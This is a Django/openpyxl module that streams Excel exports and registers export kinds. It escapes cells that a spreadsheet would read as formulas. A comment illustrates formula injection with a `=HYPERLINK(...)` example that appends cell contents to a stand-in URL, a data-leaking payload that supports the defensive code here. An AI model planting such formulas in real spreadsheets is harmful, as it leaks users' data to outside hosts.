"""Excel workbooks written one safe way, and the export kinds the areas offer.

A sheet is a title, typed columns (header, width, how to read a cell from a row) and a
queryset of rows. `write_workbook` streams sheets with openpyxl in write-only mode, row by row,
with one bold, frozen, filtered header row each, reporting its progress; every text it writes,
and every text `write_cell` writes into an ordinary sheet, stays text and never becomes a
formula, and every date is a date cell shown as the reader's language writes a short date. Each
area registers the exports it offers with `export_kind` from its own `exports` module (imported
by its AppConfig.ready, as Django's admin registers models), so the export mechanism finds them
here without importing the areas.
"""

import datetime as dt
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field
from typing import Any

from django.core.exceptions import ImproperlyConfigured, ValidationError
from django.db.models import QuerySet
from django.utils import timezone
from django.utils.formats import get_format
from django.utils.translation import get_language
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

# A cell typed, pasted or imported with one of these first characters is read as a formula by
# spreadsheet programs ("CSV injection"): a public application named
# `=HYPERLINK("http://x"&A1,"Open CV")` would become a live link in the office's export.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HEADER_FONT = Font(bold=True, color="FFFFFF")
HEADER_FILL = PatternFill("solid", fgColor="0D6EFD")
HEADER_ALIGNMENT = Alignment(vertical="center", wrap_text=True)


@dataclass(frozen=True)
class Column:
    header: str  # lazily translated: a workbook is written in its requester's language
    width: int
    value: Callable[[Any], Any]  # row → str, int, date, naive datetime or None


@dataclass(frozen=True)
class Sheet:
    title: str
    columns: list[Column]
    rows: QuerySet  # counted for the progress, then read in chunks


def _looks_like_a_formula(value: Any) -> bool:
    """A text a spreadsheet would read as a formula or an error value rather than as text."""
    return isinstance(value, str) and (value.startswith(FORMULA_STARTS) or value in ERROR_CODES)


def _text_stays_text(cell: Cell) -> Cell:
    """A text that would be read as a formula is stored as a string, with the quote prefix Excel
    itself sets when one types '=…: shown unchanged, and still text after someone edits the cell
    in Excel or LibreOffice."""
    if _looks_like_a_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def _text_safe(worksheet, value: Any, dates: "DateFormats") -> Any:
    """What to append to a write-only sheet for `value`: the value itself, a cell keeping it
    text if it would otherwise be read as a formula, or a date cell in the reader's format."""
    if _looks_like_a_formula(value):
        return _text_stays_text(WriteOnlyCell(worksheet, value=value))
    if isinstance(value, dt.date):
        cell = WriteOnlyCell(worksheet, value=value)
        cell.number_format = dates.datetime if isinstance(value, dt.datetime) else dates.date
        return cell
    return value


def write_cell(worksheet, row: int, column: int, value: Any) -> Cell:
    """Set one cell of an ordinary (not write-only) sheet; a text stays text."""
    return _text_stays_text(worksheet.cell(row=row, column=column, value=value))


def local_time(moment: dt.datetime | None) -> dt.datetime | None:
    """Excel knows no time zones: Heidelberg time, as the office reads it."""
    return timezone.localtime(moment).replace(tzinfo=None) if moment else None


# Django's date format characters as Excel's number format codes: a workbook's dates are real
# date cells (sortable, filterable), shown as the reader's language writes a short date.
EXCEL_CODES = {
    "d": "dd", "j": "d", "D": "ddd", "l": "dddd",
    "m": "mm", "n": "m", "M": "mmm", "b": "mmm", "N": "mmm", "F": "mmmm", "E": "mmmm",
    "Y": "yyyy", "y": "yy", "H": "hh", "G": "h", "i": "mm", "s": "ss",
}  # fmt: skip
EXCEL_SEPARATORS = " -/:."  # shown as they are in a date format; anything else is quoted
# Excel names months and weekdays in the language its locale tag says, not in its own.
EXCEL_LOCALES = {
    "en": "809", "de": "407", "fr": "40C", "he": "40D",
    "ja": "411", "ru": "419", "uk": "422", "zh-hans": "804",
}  # fmt: skip


@dataclass(frozen=True)
class DateFormats:
    date: str
    datetime: str

    @classmethod
    def of_language(cls) -> "DateFormats":
        """The active language's SHORT_DATE_FORMAT and SHORT_DATETIME_FORMAT as Excel writes
        them ("dd.mm.yyyy" in German)."""
        tag = EXCEL_LOCALES.get(get_language() or "", "")
        prefix = f"[$-{tag}]" if tag else ""
        return cls(
            prefix + excel_format(get_format("SHORT_DATE_FORMAT")),
            prefix + excel_format(get_format("SHORT_DATETIME_FORMAT")),
        )


def excel_format(django_format: str) -> str:
    """A Django date format as an Excel number format: codes for the date and time characters,
    separators as they are, every other character quoted as literal text."""
    codes, characters = [], iter(django_format)
    for char in characters:
        if char == "\\":  # Django's escape: the next character is literal
            char = next(characters, "")
        elif char in EXCEL_CODES:
            codes.append(EXCEL_CODES[char])
            continue
        elif char.isascii() and char.isalpha():
            raise ValueError(f"No Excel code for “{char}” in the date format “{django_format}”.")
        if char in EXCEL_SEPARATORS:
            codes.append(char)
        elif char:
            codes.append(f'"{char}"' if char != '"' else '\\"')
    return "".join(codes)


def choice_labels(choices: Iterable[tuple[str, Any]]) -> dict[str, str]:
    """Choice labels in the workbook's language, translated once rather than once per cell."""
    return {value: str(label) for value, label in choices}


def write_workbook(
    sheets: list[Sheet],
    target,
    *,
    title: str,
    progress: Callable[[int], None] = lambda percent: None,
) -> int:
    """Write `sheets` to `target` (a path or file), reporting progress every 2 % of the rows;
    returns the rows written. Each sheet costs a count and one read however long it is."""
    total = sum(sheet.rows.count() for sheet in sheets) or 1
    step = max(1, total // 50)
    workbook = Workbook(write_only=True)
    workbook.properties.title = title
    workbook.properties.creator = "ISH Manager"
    workbook.properties.created = timezone.now().replace(tzinfo=None)
    written = 0
    dates = DateFormats.of_language()
    for sheet in sheets:
        worksheet = workbook.create_sheet(str(sheet.title)[:31])
        for index, column in enumerate(sheet.columns, start=1):
            worksheet.column_dimensions[get_column_letter(index)].width = column.width
        worksheet.freeze_panes = "A2"
        worksheet.append([_header(worksheet, str(column.header)) for column in sheet.columns])
        count = 0
        # One query, read in chunks: the rows are never all held at once.
        for row in sheet.rows.iterator(chunk_size=2000):
            worksheet.append(
                [_text_safe(worksheet, column.value(row), dates) for column in sheet.columns]
            )
            count += 1
            written += 1
            if written % step == 0:
                progress(min(99, written * 100 // total))
        last = get_column_letter(max(1, len(sheet.columns)))
        worksheet.auto_filter.ref = f"A1:{last}{count + 1}"
    workbook.save(target)
    progress(100)
    return written


def _header(worksheet, text: str) -> Cell:
    cell = _text_stays_text(WriteOnlyCell(worksheet, value=text))
    cell.font, cell.fill, cell.alignment = HEADER_FONT, HEADER_FILL, HEADER_ALIGNMENT
    return cell


# --- the export kinds ---------------------------------------------------------------------------

WORKBOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SheetsBuilder = Callable[..., list[Sheet]]  # (user, season, **parameters) → the sheets in scope
# A kind that writes a file of its own rather than sheets (the certificates' ZIP of PDFs):
# (user, season, target file, progress(percent), **parameters) → how many items it wrote.
FileWriter = Callable[..., int]
# A parameter of a kind (the event of a bus list): (user, season, value as given) → the value to
# store with the job (JSON), or ValidationError naming what is wrong with it.
ParameterCheck = Callable[[Any, Any, Any], Any]


@dataclass(frozen=True)
class ExportFile:
    """What a kind that writes its own file writes: the file's extension and content type, and
    the function that writes it."""

    extension: str
    content_type: str
    write: FileWriter


@dataclass(frozen=True)
class ExportKind:
    name: str
    roles: frozenset[str]  # who may ask for it; its rows are scoped by the selectors anyway
    sheets: SheetsBuilder | None  # None for a kind that writes its own `file`
    # What the kind needs besides the season, by name, each with its check; a job stores the
    # checked values and its builder receives them as keyword arguments.
    parameters: Mapping[str, ParameterCheck] = field(default_factory=dict)
    file: ExportFile | None = None

    @property
    def extension(self) -> str:
        return self.file.extension if self.file else "xlsx"

    @property
    def content_type(self) -> str:
        return self.file.content_type if self.file else WORKBOOK_TYPE

    def check_parameters(self, user, season, given: Mapping[str, Any]) -> dict[str, Any]:
        """The kind's parameters from `given`, checked for `user`; ValidationError naming each
        one missing or wrong (and each given that the kind does not take)."""
        errors: dict[str, list[str]] = {}
        checked = {}
        for name, check in self.parameters.items():
            if given.get(name) is None:
                errors[name] = [_("This export needs %(parameter)s.") % {"parameter": name}]
                continue
            try:
                checked[name] = check(user, season, given[name])
            except ValidationError as error:
                errors[name] = error.messages
        for name in set(given) - set(self.parameters):
            if given[name] is not None:
                errors[name] = [
                    _("The export %(kind)s takes no %(parameter)s.")
                    % {"kind": self.name, "parameter": name}
                ]
        if errors:
            raise ValidationError(errors)
        return checked


_EXPORT_KINDS: dict[str, ExportKind] = {}


def export_kind(
    name: str, *, roles: Iterable[str], parameters: Mapping[str, ParameterCheck] | None = None
) -> Callable[[SheetsBuilder], SheetsBuilder]:
    """Register the decorated function as the builder of the export `name`: it returns the
    sheets of that export for a user and a season (and the kind's `parameters`, as keyword
    arguments), each holding only what the user may see."""

    def register(sheets: SheetsBuilder) -> SheetsBuilder:
        _register(ExportKind(name, frozenset(roles), sheets, dict(parameters or {})))
        return sheets

    return register


def export_file_kind(
    name: str,
    *,
    roles: Iterable[str],
    extension: str,
    content_type: str,
    parameters: Mapping[str, ParameterCheck] | None = None,
) -> Callable[[FileWriter], FileWriter]:
    """Register the decorated function as the writer of the export `name`, a file of its own
    (not a workbook) with that extension and content type: it writes the file for a user and a
    season to a target, reporting its progress, and returns how many items it wrote."""

    def register(write: FileWriter) -> FileWriter:
        file = ExportFile(extension, content_type, write)
        _register(ExportKind(name, frozenset(roles), None, dict(parameters or {}), file))
        return write

    return register


def _register(kind: ExportKind) -> None:
    if kind.name in _EXPORT_KINDS:
        raise ImproperlyConfigured(f"The export kind {kind.name!r} is registered twice.")
    _EXPORT_KINDS[kind.name] = kind


def registered_export(name: str) -> ExportKind:
    try:
        return _EXPORT_KINDS[name]
    except KeyError:
        raise ImproperlyConfigured(
            f"No area registers the export kind {name!r}: its app's ready() imports its exports."
        ) from None
